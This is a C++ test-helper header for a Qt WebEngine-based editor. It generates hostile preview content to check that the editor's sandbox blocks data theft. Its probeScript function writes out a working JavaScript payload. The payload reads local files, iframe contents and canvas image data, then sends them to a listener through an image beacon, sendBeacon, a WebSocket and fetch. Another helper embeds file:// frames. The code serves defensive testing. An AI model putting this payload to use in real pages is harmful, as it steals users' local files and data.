#pragma once

#include "ScriptResult.h"
#include "platform/gui/WebPage.h"
#include "platform/gui/WebView.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QStringList>
#include <QTest>
#include <QWebEngineFindTextResult>
#include <QWebEnginePage>

#include <memory>

// Content written to harm the user, as a co-author, a hijacked template or a comment could send it: a
// script that tries to read local files, the database, the preferences and the user's pictures (fetch,
// XHR, a canvas), and sends whatever it got to a listener (picture beacon, sendBeacon, WebSocket, fetch).
// At the end it reports how many things it read to `report` + "/done-<who>?stolen=N"; the report comes
// after every attempt, so a listener that has received nothing by then never will.
namespace HostileContent {

// A red pixel.
inline QByteArray pngBytes()
{
    return QByteArray::fromBase64(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
}

inline bool writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

inline QString probeScript(const QString& who, const QString& listener, const QString& report,
                           const QStringList& targets)
{
    const QString list =
        QString::fromUtf8(QJsonDocument(QJsonArray::fromStringList(targets)).toJson(QJsonDocument::Compact));
    return QStringLiteral(
               "<script>(async function () {"
               "var who = '%1', listener = '%2', report = '%3', targets = %4, stolen = [];"
               "function keep(text) { if (text && text.length) { stolen.push(text); } }"
               "for (var i = 0; i < targets.length; i++) {"
               "  var t = targets[i];"
               "  try { var r = await fetch(t); keep(await r.text()); } catch (e) {}"
               "  await new Promise(function (done) { try { var x = new XMLHttpRequest();"
               "    x.onload = function () { keep(x.responseText); done(); };"
               "    x.onerror = x.onabort = function () { done(); }; x.open('GET', t); x.send();"
               "  } catch (e) { done(); } });"
               "}"
               "await new Promise(function (done) { if (document.readyState === 'complete') { done(); }"
               "  else { window.addEventListener('load', done); } });"
               "var pictures = Array.from(document.querySelectorAll('img.mine'));"
               "for (var k = 0; k < pictures.length; k++) { var u = pictures[k].src;"
               "  try { var q = await fetch(u); keep(await q.text()); } catch (e) {}"
               "  try { var q2 = await fetch(u, { mode: 'no-cors' }); keep(await q2.text()); } catch (e) {} }"
               "document.querySelectorAll('iframe').forEach(function (f) {"
               "  if (!/^(file|penhollow)/.test(f.getAttribute('src') || '')) { return; }"
               "  try { keep(f.contentDocument.body.innerText);"
               "    pictures = pictures.concat(Array.from(f.contentDocument.images)); } catch (e) {} });"
               "for (var j = 0; j < pictures.length; j++) {"
               "  try { var c = document.createElement('canvas'); c.width = 1; c.height = 1;"
               "    c.getContext('2d').drawImage(pictures[j], 0, 0); keep(c.toDataURL()); } catch (e) {}"
               "}"
               "if (stolen.length) { var d = encodeURIComponent(stolen.join('|').slice(0, 1500));"
               "  new Image().src = listener + '/img?d=' + d;"
               "  try { navigator.sendBeacon(listener + '/beacon', d); } catch (e) {}"
               "  try { new WebSocket(listener.replace('http', 'ws') + '/ws?d=' + d); } catch (e) {}"
               "  try { await fetch(listener + '/fetch?d=' + d, { mode: 'no-cors' }); } catch (e) {}"
               "}"
               "try { await fetch(report + '/done-' + who + '?stolen=' + stolen.length + '&what=' +"
               "  encodeURIComponent(stolen.join('|').slice(0, 300)), { mode: 'no-cors' });"
               "} catch (e) {}"
               "})();</script>")
        .arg(who, listener, report, list);
}

// Markup that shows local files or asks the editor for its windows, with no script at all.
inline QString fileFramesAndMarkers(const QStringList& files)
{
    QString html;
    for (const QString& file : files) {
        html += QStringLiteral("<iframe src=\"file://%1\"></iframe><object data=\"file://%1\"></object>")
                    .arg(file);
    }
    return html +
           QStringLiteral("<img src=\"/penhollow-editor/previewcontent:?n=1\">"
                          "<img src=\"/x/livepreviewcontent:\"><img src=\"file:///toolbar/addlocalimage:/x\">"
                          "<iframe src=\"/previewcontent:\"></iframe>");
}

// How many times the text is found in the page, frames included, once it has finished loading (a search
// started while it loads is dropped unanswered); -1 when the search gave no answer. The count is shared with
// the callback: an answer after the wait gave up must not write into a finished frame.
inline int occurrences(WebView& view, const QString& text)
{
    // A world of our own: it runs where the page's scripts are off.
    const bool loaded = QTest::qWaitFor(
        [&] {
            return ScriptResult::evaluate(view, QStringLiteral("document.readyState"),
                                          QWebEngineScript::ApplicationWorld) ==
                   QVariant(QStringLiteral("complete"));
        },
        20000);
    if (!loaded) {
        return -1;
    }
    auto found = std::make_shared<int>(-1);
    view.webPage()->findText(
        text, {}, [found](const QWebEngineFindTextResult& result) { *found = result.numberOfMatches(); });
    return QTest::qWaitFor([&] { return *found >= 0; }, 20000) ? *found : -1;
}

} // namespace HostileContent
